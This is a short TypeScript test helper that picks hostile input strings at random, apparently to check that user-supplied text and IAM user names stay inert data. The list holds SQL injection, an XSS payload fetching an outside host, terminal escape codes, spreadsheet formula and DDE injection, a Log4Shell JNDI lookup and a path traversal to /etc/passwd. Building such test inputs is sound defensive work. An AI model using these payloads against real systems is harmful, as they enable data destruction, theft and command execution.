import type { Random } from "./prng.ts";

/** What callers may choose freely, attackers included: it must stay data wherever it is shown. */
const HOSTILE_TEXTS = [
  "'; DROP TABLE cloudtrail; --",
  "x' OR '1'='1",
  "\"; COPY (SELECT 1) TO '/tmp/stolen'; --",
  "<script>alert(document.domain)</script>",
  '<img src=x onerror="fetch(`//example.com`)">',
  "\u001b[31mred\u001b[0m \u001b]0;title\u0007",
  "\u001b[2J\u001b[H",
  '=HYPERLINK("http://example.com/?"&A1,"report")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "two\r\nlines",
  "${jndi:ldap://example.com/a}",
  "{{7*7}}",
  "../../../../etc/passwd",
  "%00%0a",
  "a|b,c;d\"e'f\\g",
  "right\u202eto left",
  "日本語 naïve Ελλάδα 🦊",
  "null",
] as const;

/** User names that IAM accepts, which allows letters, digits and +=,.@-_. */
const HOSTILE_USER_NAMES = ["=1+1", "+1", "-2+3", "@SUM", "=A1", "-", "alice@example.com"] as const;

export function inventHostileText(random: Random): string {
  return random.pick(HOSTILE_TEXTS);
}

export function inventHostileUserName(random: Random): string {
  return random.pick(HOSTILE_USER_NAMES);
}
